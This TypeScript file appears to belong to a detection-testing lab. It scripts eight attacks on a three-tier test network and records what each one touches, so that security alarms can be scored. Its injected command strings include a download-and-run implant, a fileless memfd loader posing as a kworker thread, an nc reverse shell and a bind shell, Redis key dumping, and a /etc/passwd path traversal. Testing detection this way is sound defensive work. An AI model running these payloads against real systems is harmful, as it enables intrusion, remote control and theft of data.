// What an intruder does to the shop, step by step and always the same; each says what it touched, so that alarms can be told apart.
import { labNetwork } from './gateway/protocol.ts';
import { guestProgram } from './guest-programs.ts';
import { ok, type Result } from '../src/kit/result.ts';
import type { ThreeTierLab } from './three-tier.ts';
import type { Tier } from './tier-disk.ts';

export const attackNames = [
  'web-shell',
  'download-and-run',
  'memory-only',
  'reverse-connection',
  'new-listener',
  'lateral-movement',
  'hostile-argument',
  'masquerade',
] as const;
export type AttackName = (typeof attackNames)[number];

export interface Attack {
  readonly name: AttackName;
  readonly description: string;
  /** MITRE ATT&CK techniques it stands for. */
  readonly techniques: readonly string[];
}

/** What one machine shows of an attack. An alarm about anything else on it is a false one. */
export interface Touched {
  readonly tier: Tier;
  /** Executables, as the kernel names them. */
  readonly executables: readonly string[];
  /** Pieces that occur in the arguments of its processes and in no benign ones. */
  readonly argumentPieces: readonly string[];
  readonly listeningPorts: readonly number[];
  /** Remote ends of its connections, as seen from this machine. */
  readonly peers: readonly { readonly address: string; readonly port?: number }[];
}

export interface AttackTrace {
  readonly attack: Attack;
  readonly startedAtMs: number;
  readonly endedAtMs: number;
  /** It got what it came for. False when something stopped it on its way, which a product may well have done. */
  readonly completed: boolean;
  /** Process ids in the web tier that it told of itself. */
  readonly pids: readonly number[];
  readonly output: string;
  readonly touched: readonly Touched[];
}

interface Script extends Attack {
  /** Either a shell line for the web tier's vulnerable lookup, or a path to ask the web tier for. */
  readonly inject?: string;
  readonly ask?: string;
  /** In the output of a completed attack. */
  readonly proof: string;
  readonly touched: readonly Touched[];
}

const { gateway, machines, intruderShellPort, intruderWebPort } = labNetwork;
const implantUrl = `http://${gateway}:${intruderWebPort}/implant`;
const backDoorPort = 31_337;
const shell = '/usr/bin/dash';
const busybox = '/usr/bin/busybox';
const intruderWeb = { address: gateway, port: intruderWebPort };

function web(part: Partial<Touched>): Touched {
  return { tier: 'web', executables: [shell], argumentPieces: [], listeningPorts: [], peers: [], ...part };
}

/** Each keeps what it started alive for two seconds, as an intruder who looks around does. */
const scripts: readonly Script[] = [
  {
    name: 'web-shell',
    description: "A command injected through the web server's host lookup runs a shell as the web server's user.",
    techniques: ['T1190', 'T1059.004'],
    inject: `sh -c 'echo pid $$; sleep 2; echo done'`,
    proof: 'done',
    touched: [web({ executables: [shell, '/usr/bin/sleep'], argumentPieces: ['echo pid'] })],
  },
  {
    name: 'download-and-run',
    description: 'A program is downloaded to /tmp and run from there.',
    techniques: ['T1105', 'T1059.004'],
    inject: `wget -q -O /tmp/.cache ${implantUrl}; chmod 755 /tmp/.cache; /tmp/.cache hold 2 & echo pid $!; wait $! && echo done`,
    proof: 'done',
    touched: [
      web({
        executables: [busybox, '/usr/bin/chmod', '/tmp/.cache', shell],
        argumentPieces: [implantUrl, '/tmp/.cache'],
        peers: [intruderWeb],
      }),
    ],
  },
  {
    name: 'memory-only',
    description:
      'A program runs from memory that no file backs, under the name of a kernel thread; its loader is deleted.',
    techniques: ['T1620', 'T1036.005', 'T1070.004'],
    inject:
      `wget -q -O /dev/shm/.x ${implantUrl}; chmod 755 /dev/shm/.x; ` +
      `/dev/shm/.x memfd kworker '[kworker/u4:1]' hold 2 & echo pid $!; sleep 0.3; rm /dev/shm/.x; wait && echo done`,
    proof: 'done',
    touched: [
      web({
        executables: [
          busybox,
          '/usr/bin/chmod',
          '/usr/bin/rm',
          '/usr/bin/sleep',
          '/dev/shm/.x',
          '/memfd:kworker',
          shell,
        ],
        argumentPieces: [implantUrl, '/dev/shm/.x', '[kworker/u4:1]'],
        peers: [intruderWeb],
      }),
    ],
  },
  {
    name: 'reverse-connection',
    description: "A shell on the web server connects out to the intruder's machine and takes its commands.",
    techniques: ['T1059.004', 'T1071'],
    inject: `nc ${gateway} ${intruderShellPort} -e /bin/sh & echo pid $!; wait && echo done`,
    proof: 'done',
    touched: [
      web({
        executables: [busybox, shell, '/usr/bin/id', '/usr/bin/sleep'],
        argumentPieces: [`${gateway} ${intruderShellPort}`],
        peers: [{ address: gateway, port: intruderShellPort }],
      }),
    ],
  },
  {
    name: 'new-listener',
    description: `A back door waits for connections on port ${backDoorPort} of the web server.`,
    techniques: ['T1571'],
    inject: `timeout 2 nc -l -p ${backDoorPort} -e /bin/sh & echo pid $!; wait; echo done`,
    proof: 'done',
    touched: [
      web({
        executables: [busybox, '/usr/bin/timeout', shell],
        argumentPieces: [`${backDoorPort}`],
        listeningPorts: [backDoorPort],
      }),
    ],
  },
  {
    name: 'lateral-movement',
    description: 'The web server talks to the database itself, past the application tier, and reads all keys.',
    techniques: ['T1021', 'T1213'],
    inject: `(printf 'KEYS *\\r\\n'; sleep 2; printf 'QUIT\\r\\n') | nc ${machines.db} 6379; echo done`,
    proof: 'order:',
    touched: [
      web({
        executables: [busybox, '/usr/bin/sleep', shell],
        argumentPieces: [`${machines.db} 6379`],
        peers: [{ address: machines.db, port: 6379 }],
      }),
      {
        tier: 'db',
        executables: ['/usr/bin/redis-server', '/usr/bin/redis-check-rdb'],
        argumentPieces: [],
        listeningPorts: [],
        peers: [{ address: machines.web }],
      },
    ],
  },
  {
    name: 'hostile-argument',
    description:
      "The application's own invoice program is made to print another file: nothing new runs, only its argument differs.",
    techniques: ['T1190', 'T1005'],
    ask: '/cgi-bin/invoice?item=chair&template=/etc/passwd',
    proof: 'root:x:0',
    touched: [
      web({ executables: [shell, busybox], argumentPieces: ['template=/etc/passwd'] }),
      {
        tier: 'app',
        executables: ['/opt/orders/bin/invoice'],
        argumentPieces: ['/etc/passwd'],
        listeningPorts: [],
        peers: [],
      },
    ],
  },
  {
    name: 'masquerade',
    description: "A copied program runs from /tmp under the web server's own name.",
    techniques: ['T1036.005'],
    inject: `cp /usr/bin/sleep /tmp/lighttpd; /tmp/lighttpd 2 & echo pid $!; wait $! && echo done`,
    proof: 'done',
    touched: [web({ executables: ['/usr/bin/cp', '/tmp/lighttpd', shell], argumentPieces: ['/tmp/lighttpd'] })],
  },
];

export const attacks: readonly Attack[] = scripts.map(({ name, description, techniques }) => ({
  name,
  description,
  techniques,
}));

/** Runs one attack to its end, some three seconds. The lab is left as the attack left it: `lab.restore` undoes it. */
export async function runAttack(lab: ThreeTierLab, name: AttackName): Promise<Result<AttackTrace>> {
  const script = scripts.find((one) => one.name === name);
  if (script === undefined) throw new Error(`no such attack: ${name}`);
  const armed = await armIntruder(lab);
  if (!armed.ok) return armed;
  const startedAtMs = Date.now();
  const path = script.ask ?? '/cgi-bin/lookup';
  const answer = await (script.inject === undefined ? lab.visit(path) : lab.visit(path, `app.lab; ${script.inject}\n`));
  const output = answer.ok ? answer.value.body : answer.error.message;
  return ok({
    attack: attacks.find((one) => one.name === name) as Attack,
    startedAtMs,
    endedAtMs: Date.now(),
    completed: output.includes(script.proof),
    pids: [...output.matchAll(/^pid (\d+)$/gm)].map((match) => Number(match[1])),
    output,
    touched: script.touched,
  });
}

/** Gives the intruder's machine what it serves: any program will do as an implant, so the lab's own workload is one. */
async function armIntruder(lab: ThreeTierLab): Promise<Result<void>> {
  const implant = await guestProgram('workload');
  if (!implant.ok) return implant;
  return lab.gateway.ask('intrude', { implant: implant.value, shellCommands: 'id; sleep 2; exit\n' });
}
